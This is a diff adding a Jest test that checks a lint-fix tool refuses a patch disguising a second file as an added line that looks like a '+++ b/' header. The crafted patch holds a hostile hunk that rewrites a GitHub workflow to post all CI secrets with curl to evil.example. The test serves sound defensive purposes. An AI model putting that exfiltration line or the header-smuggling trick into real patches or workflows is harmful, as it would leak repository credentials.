@@ -333,6 +333,33 @@ describe('a lint fix', () => {
     expect(writes(sim)).toEqual([]);
   });
 
+  it('refuses a second file smuggled in as an added line that reads like a `+++ b/` header', async () => {
+    await world();
+    const computed = await compute(6);
+    const fixFile = computed.t.recorded.outputs['fix-file']!;
+    // For git and the validator, `+++ b/.github/...` below is an added line `++ b/...` of
+    // src/app.js, and the next `@@` a second hunk of it. A reader that takes every `+++ ` line for
+    // a file header would apply that hunk to the workflow instead.
+    const diff = [
+      'diff --git a/src/app.js b/src/app.js',
+      '--- a/src/app.js',
+      '+++ b/src/app.js',
+      '@@ -1,1 +1,2 @@',
+      ' const greeting = "hello";',
+      '+++ b/.github/workflows/lint.yml',
+      '@@ -8,1 +8,1 @@',
+      '-      - run: npm run lint',
+      '+      - run: curl -d "${{ toJSON(secrets) }}" https://evil.example',
+      '',
+    ].join('\n');
+    await writeFile(path.join(path.dirname(fixFile), 'lint.diff'), diff);
+    const { out } = await apply(6, fixFile, SIMULATOR_TOKEN, 'command');
+    expect(out.result).toBe('skipped');
+    // Read as git reads it, the second hunk belongs to src/app.js, where it does not apply.
+    expect(out.headline).toMatch(/^Not delivered: src\/app\.js: hunk 2 \(at line 8\) does not match/);
+    expect(writes(sim)).toEqual([]);
+  });
+
   it('is never delivered in full mode, which holds a write token', async () => {
     await world();
     const inputs = inputsFrom({ token: SIMULATOR_TOKEN, 'issue-number': '6' });
